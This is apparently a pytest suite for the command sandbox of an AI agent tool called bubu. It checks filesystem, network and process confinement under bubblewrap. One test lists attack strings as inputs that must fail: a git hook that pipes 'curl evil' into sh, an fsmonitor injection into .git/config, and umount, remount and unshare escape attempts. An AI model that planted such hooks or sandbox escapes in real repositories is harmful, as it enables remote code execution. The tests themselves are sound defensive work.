"""Commands in the bubblewrap sandbox, for real: what they can write, reach and see, in the shell
tool and in `bubu run` processes, and what happens where bubblewrap cannot run."""

from __future__ import annotations

import os
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from bubu.errors import ConfigError
from bubu.events import FunctionResponse, Info, PermissionDecision, SystemNote, TurnStarted
from bubu.log.sqlite import SQLiteStore
from bubu.tools import ToolContext, ToolResult
from bubu.tools.base import Tool
from bubu.tools.sandbox import Sandbox, confinement, parse_mode, wrap
from engine.cli import bubu, bubu_cmd, bubu_env, only_session
from engine.helpers import call, write_script

WRITE = confinement("workspace-write", False)
READ = confinement("read-only", False)
NET = confinement("workspace-write", True)


def run(tools: dict[str, Tool], ctx: ToolContext, command: str, timeout_s: float = 30) -> str:
    result: ToolResult = tools["run_command"].run(
        {"command": command, "timeout_s": timeout_s}, ctx, None
    )
    return result.output


def in_box(ws: Path, sandbox: Sandbox | None) -> ToolContext:
    return ToolContext(workspace=ws, timeout_s=30.0, sandbox=sandbox)


@pytest.fixture
def listener() -> Iterator[int]:
    """A TCP listener on 127.0.0.1 (the kernel completes connections without accept); its port."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen(8)
        yield s.getsockname()[1]


def connect(port: int) -> str:
    return f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"


# ---- the shell tool ----------------------------------------------------------------------------


def test_the_workspace_is_writable_and_nothing_outside_it(
    tools: dict[str, Tool], ws: Path, outside: Path
) -> None:
    home = Path.home() / f".bubu-sandbox-test-{os.getpid()}"
    ctx = in_box(ws, WRITE)
    out = run(tools, ctx, f"echo made > made.txt; touch {outside}/new; touch {home}; cat made.txt")
    assert out.endswith("made\nexit code 0"), out
    assert (ws / "made.txt").read_text() == "made\n"
    assert not (outside / "new").exists()
    assert not home.exists()
    assert "Read-only file system" in run(tools, ctx, f"touch {home}")
    assert "Read-only file system" in run(tools, ctx, "touch /usr/bubu-was-here")
    # Not even as root: the command has no capabilities to undo the read-only binds.
    remount = run(tools, ctx, f"mount -o remount,bind,rw / ; touch {home}")
    assert "Read-only file system" in remount, remount
    assert not home.exists()
    assert (
        run(tools, ctx, "grep CapEff /proc/self/status") == "CapEff:\t0000000000000000\nexit code 0"
    )


def test_the_workspace_is_seen_at_its_real_path(
    tools: dict[str, Tool], ws: Path, tmp_path: Path
) -> None:
    link = tmp_path / "link"
    link.symlink_to(ws)
    out = run(tools, in_box(link, WRITE), "pwd; /bin/pwd; touch via-real-path")
    assert out == f"{ws}\n{ws}\nexit code 0"
    assert (ws / "via-real-path").exists()


def test_read_only_mode_writes_nothing_but_its_own_tmp(tools: dict[str, Tool], ws: Path) -> None:
    (ws / "a.txt").write_text("alpha\n")
    ctx = in_box(ws, READ)
    assert "Read-only file system" in run(tools, ctx, "echo changed > a.txt")
    assert (ws / "a.txt").read_text() == "alpha\n"
    assert run(tools, ctx, "cat a.txt; echo t > $TMPDIR/t && cat /tmp/t") == (
        "alpha\nt\nexit code 0"
    )


def test_git_and_bubu_stay_read_only_in_workspace_write(tools: dict[str, Tool], ws: Path) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".bubu").mkdir()
    ctx = in_box(ws, WRITE)
    for attack in (
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        "printf '[core]\\nfsmonitor = evil\\n' >> .git/config",
        "echo 'model = \"x\"' > .bubu/config.toml",
        "mv .git elsewhere",
        "rm -rf .git",
        "umount .git && touch .git/hooks/pre-commit",
        "mount -o remount,bind,rw .git && touch .git/hooks/pre-commit",
        "unshare -rm sh -c 'umount .git || mount -o remount,bind,rw .git; touch .git/hooks/x'",
    ):
        out = run(tools, ctx, attack)
        assert "exit code 0" not in out, (attack, out)
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert not (ws / ".bubu" / "config.toml").exists()
    assert (
        run(tools, ctx, "echo ok > src.txt && cat src.txt .git/config") == "ok\n[core]\nexit code 0"
    )


def test_the_temp_dir_is_private_and_fresh(tools: dict[str, Tool], ws: Path, outside: Path) -> None:
    ctx = in_box(ws, WRITE)
    out = run(tools, ctx, f"echo $TMPDIR; ls {outside}; echo x > /tmp/left-by-a-command; ls /tmp")
    assert out.startswith("/tmp\n"), out
    assert "secret.txt" not in out, "the host's /tmp is not visible"
    assert not Path("/tmp/left-by-a-command").exists()
    assert "left-by-a-command" not in run(tools, ctx, "ls -a /tmp")


def test_programs_that_live_in_the_real_tmp_still_run_read_only(
    tools: dict[str, Tool],
    ws: Path,
    outside: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A project cloned and set up under /tmp: its tools are on PATH there, under the private /tmp.
    bin_dir = tmp_path / "venv" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "hello-tool").write_text("#!/bin/sh\necho hello from the tool\n")
    (bin_dir / "hello-tool").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    ctx = in_box(ws, WRITE)
    assert run(tools, ctx, "hello-tool").startswith("hello from the tool"), "the tool runs"
    out = run(tools, ctx, f"touch {bin_dir}/planted; ls {outside}")
    assert "Read-only file system" in out
    assert "secret.txt" not in out, "only the tool's directory is shown, nothing else of /tmp"
    assert not (bin_dir / "planted").exists()


def test_no_network_unless_allowed(tools: dict[str, Tool], ws: Path, listener: int) -> None:
    refused = run(tools, in_box(ws, WRITE), connect(listener))
    assert "connected" not in refused.replace("connect:", ""), refused
    assert not refused.endswith("exit code 0")
    assert run(tools, in_box(ws, NET), connect(listener)) == "connected\nexit code 0"
    assert run(tools, in_box(ws, None), connect(listener)) == "connected\nexit code 0"


@pytest.mark.heavy
def test_the_command_has_its_own_processes_and_they_end_with_it(
    tools: dict[str, Tool], ws: Path
) -> None:
    ctx = in_box(ws, WRITE)
    out = run(tools, ctx, "ps -eo pid= | wc -l; echo $$")
    count, pid = out.splitlines()[:2]
    assert int(count) <= 5, out  # bwrap's init, the shell, ps, wc (and the subshell)
    assert int(pid) < 5
    run(tools, ctx, "(sleep 0.4; echo late > background.txt) > /dev/null 2>&1 &")
    timed_out = run(tools, ctx, "sleep 0.6; echo late > timed-out.txt", timeout_s=0.2)
    assert "timed out" in timed_out
    time.sleep(1.0)
    assert not (ws / "background.txt").exists(), "background processes die with the command"
    assert not (ws / "timed-out.txt").exists(), "a timed-out command is really gone"


def test_the_bwrap_command_line() -> None:
    box = Sandbox(mode="workspace-write", network=False, bwrap="bwrap")
    argv = wrap(["bash", "-c", "true"], "/", box)
    for flag in ("--unshare-all", "--unshare-pid", "--die-with-parent", "--new-session"):
        assert flag in argv
    assert "--share-net" not in argv
    assert argv[-5:] == ["/", "--", "bash", "-c", "true"]
    assert "--share-net" in wrap(["true"], "/", Sandbox(mode="read-only", network=True))
    assert wrap(["true"], "/", None) == ["true"]


def test_modes_parse_or_fail_in_one_sentence() -> None:
    assert parse_mode(" Read-Only ") == "read-only"
    with pytest.raises(ConfigError, match="use --sandbox workspace-write, read-only or off"):
        parse_mode("strict")


def test_off_means_unconfined_and_a_missing_bwrap_is_said_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    said: list[str] = []
    assert confinement("off", False, said.append) is None
    monkeypatch.setenv("BUBU_BWRAP", "/nonexistent/bwrap")
    assert confinement("workspace-write", False, said.append) is None
    assert confinement("read-only", True, said.append) is None
    assert said == [
        "bubu: no sandbox for commands: /nonexistent/bwrap does not exist; "
        "each command will ask for approval"
    ]


# ---- bubu run ----------------------------------------------------------------------------------


def _project(tmp_path: Path, *commands: str) -> tuple[Path, Path, Path]:
    ws = tmp_path / "ws"
    ws.mkdir()
    lines = [{"tool_calls": [call("run_command", command=c)]} for c in commands]
    script = write_script(tmp_path / "s.jsonl", [*lines, {"text": "done"}])
    return tmp_path / "bubu.db", ws, script


def _results(db: Path) -> list[FunctionResponse]:
    with SQLiteStore(db) as store:
        return [
            c
            for r in store.read(only_session(db))
            if isinstance(c := r.event.content, FunctionResponse)
        ]


def _decisions(db: Path) -> list[PermissionDecision]:
    with SQLiteStore(db) as store:
        return [
            d
            for r in store.read(only_session(db))
            if r.event.actions is not None and (d := r.event.actions.permission_decision)
        ]


def _turns(db: Path) -> list[TurnStarted]:
    with SQLiteStore(db) as store:
        return [
            c.note
            for r in store.read(only_session(db))
            if isinstance(c := r.event.content, SystemNote) and isinstance(c.note, TurnStarted)
        ]


def test_bubu_run_sandboxes_commands_without_asking(tmp_path: Path, listener: int) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    home = Path.home() / f".bubu-run-test-{os.getpid()}"
    db, ws, script = _project(
        tmp_path, f"touch {home} {outside}/x; echo in > in.txt; pwd", connect(listener)
    )
    link = tmp_path / "link"
    link.symlink_to(ws)
    done = bubu(db, "run", "t", "-w", str(link), "-m", f"scripted:{script}")
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stderr == ""
    first, second = _results(db)
    assert first.result.endswith(f"{ws.resolve()}\nexit code 0"), first.result
    assert "Read-only file system" in first.result
    assert (ws / "in.txt").exists()
    assert not (outside / "x").exists()
    assert not home.exists()
    assert "connected" not in second.result.replace("connect:", ""), second.result
    assert _decisions(db) == [], "a sandboxed command needs no approval"
    (turn,) = _turns(db)
    assert (turn.sandbox, turn.network) == ("workspace-write", False)


def test_bubu_run_with_network_reaches_the_listener(tmp_path: Path, listener: int) -> None:
    db, ws, script = _project(tmp_path, connect(listener))
    done = bubu(db, "run", "t", "-w", str(ws), "-m", f"scripted:{script}", "--network")
    assert done.returncode == 0, done.stderr
    assert [r.result for r in _results(db)] == ["connected\nexit code 0"]
    assert [(t.sandbox, t.network) for t in _turns(db)] == [("workspace-write", True)]


@pytest.mark.heavy
def test_sandbox_off_asks_and_yes_approves(tmp_path: Path) -> None:
    db, ws, script = _project(tmp_path, "echo ran > ran.txt")
    done = bubu(db, "run", "t", "-w", str(ws), "-m", f"scripted:{script}", "--sandbox", "off")
    assert done.returncode == 0, done.stderr
    assert [(d.decision, d.by) for d in _decisions(db)] == [("deny", "nobody")]
    assert not (ws / "ran.txt").exists()
    assert _turns(db)[0].sandbox == "off"

    db.unlink()
    done = bubu(
        db, "run", "t", "-w", str(ws), "-m", f"scripted:{script}", "--sandbox", "off", "--yes"
    )
    assert done.returncode == 0, done.stderr
    assert [(d.decision, d.by) for d in _decisions(db)] == [("allow", "flag")]
    assert (ws / "ran.txt").exists()


def test_yes_never_lifts_the_sandbox(tmp_path: Path) -> None:
    db, ws, script = _project(tmp_path, "touch $HOME/.bubu-yes-test; echo $?")
    done = bubu(
        db, "run", "t", "-w", str(ws), "-m", f"scripted:{script}", "--yes", "--sandbox", "read-only"
    )
    assert done.returncode == 0, done.stderr
    (result,) = _results(db)
    assert "Read-only file system" in result.result
    assert not (Path.home() / ".bubu-yes-test").exists()


def test_a_bad_mode_is_one_line_and_writes_nothing(tmp_path: Path) -> None:
    db, ws, script = _project(tmp_path, "true")
    done = bubu(db, "run", "t", "-w", str(ws), "-m", f"scripted:{script}", "--sandbox", "lax")
    assert done.returncode != 0
    assert done.stderr == (
        "bubu: error: unknown sandbox mode 'lax'; use --sandbox workspace-write, read-only or off\n"
    )
    assert not db.exists() or SQLiteStore(db).sessions() == []


def test_where_bwrap_cannot_run_it_says_so_once_and_asks(tmp_path: Path) -> None:
    db, ws, script = _project(tmp_path, "echo one > one.txt", "echo two > two.txt")
    env = {**bubu_env(tmp_path), "BUBU_BWRAP": str(tmp_path / "no-bwrap")}
    done = subprocess.run(
        bubu_cmd(db, "run", "t", "-w", str(ws), "-m", f"scripted:{script}"),
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    notes = [ln for ln in done.stderr.splitlines() if "no sandbox" in ln]
    assert notes == [
        f"bubu: no sandbox for commands: {tmp_path / 'no-bwrap'} does not exist; "
        "each command will ask for approval"
    ]
    assert [(d.decision, d.by) for d in _decisions(db)] == [("deny", "nobody")] * 2
    with SQLiteStore(db) as store:
        facts = [
            c.note.text
            for r in store.read(only_session(db))
            if isinstance(c := r.event.content, SystemNote) and isinstance(c.note, Info)
        ]
    assert facts == [
        f"no sandbox for commands: {tmp_path / 'no-bwrap'} does not exist; each one asks"
    ]
    assert not (ws / "one.txt").exists()
    assert not (ws / "two.txt").exists()


@pytest.mark.heavy
def test_a_recovered_turn_keeps_its_recorded_mode(tmp_path: Path) -> None:
    db, ws, script = _project(tmp_path, "echo changed > a.txt; echo $?")
    (ws / "a.txt").write_text("alpha\n")
    crashed = bubu(
        db,
        "run",
        "t",
        "-w",
        str(ws),
        "-m",
        f"scripted:{script}",
        "--sandbox",
        "read-only",
        failpoint="before_dispatch",
    )
    assert crashed.returncode == -9, crashed.stderr
    # Recovered by a command that names another mode: the turn's own one still applies.
    done = bubu(db, "recover", only_session(db), "--sandbox", "workspace-write", "--yes")
    assert done.returncode == 0, done.stdout + done.stderr
    (result,) = _results(db)
    assert "Read-only file system" in result.result, result.result
    assert (ws / "a.txt").read_text() == "alpha\n"
    assert [t.sandbox for t in _turns(db)] == ["read-only"]


@pytest.mark.heavy
def test_a_sandboxed_command_dies_with_a_killed_runner(tmp_path: Path) -> None:
    db, ws, script = _project(tmp_path, "touch started; sleep 1; touch late")
    proc = subprocess.Popen(
        bubu_cmd(db, "run", "t", "-w", str(ws), "-m", f"scripted:{script}"),
        env=bubu_env(tmp_path),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        stdin=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 60
        while not (ws / "started").exists():
            assert time.monotonic() < deadline, "the command never started"
            assert proc.poll() is None, "bubu ended before the command started"
            time.sleep(0.02)
    finally:
        proc.kill()
        proc.wait()
    time.sleep(1.5)
    assert not (ws / "late").exists(), "the sandbox died with the runner (--die-with-parent)"


@pytest.mark.slow
def test_a_resumed_turn_keeps_its_mode_unless_another_is_given(tmp_path: Path) -> None:
    db, ws, script = _project(tmp_path, "touch one", "touch two", "touch three")
    first = bubu(
        db,
        "run",
        "t",
        "-w",
        str(ws),
        "-m",
        f"scripted:{script}",
        "--sandbox",
        "read-only",
        "--max-steps",
        "1",
    )
    assert first.returncode == 3, first.stderr  # stopped at the step limit
    session = only_session(db)
    resumed = bubu(db, "resume", session, "--max-steps", "1")
    assert resumed.returncode == 3, resumed.stderr
    again = bubu(db, "resume", session, "--sandbox", "workspace-write", "--max-steps", "5")
    assert again.returncode == 0, again.stderr
    assert [t.sandbox for t in _turns(db)] == ["read-only", "read-only", "workspace-write"]
    one, two, three = _results(db)
    assert "Read-only file system" in one.result
    assert "Read-only file system" in two.result
    assert three.result == "(no output)\nexit code 0"
    assert sorted(p.name for p in ws.iterdir()) == ["three"]
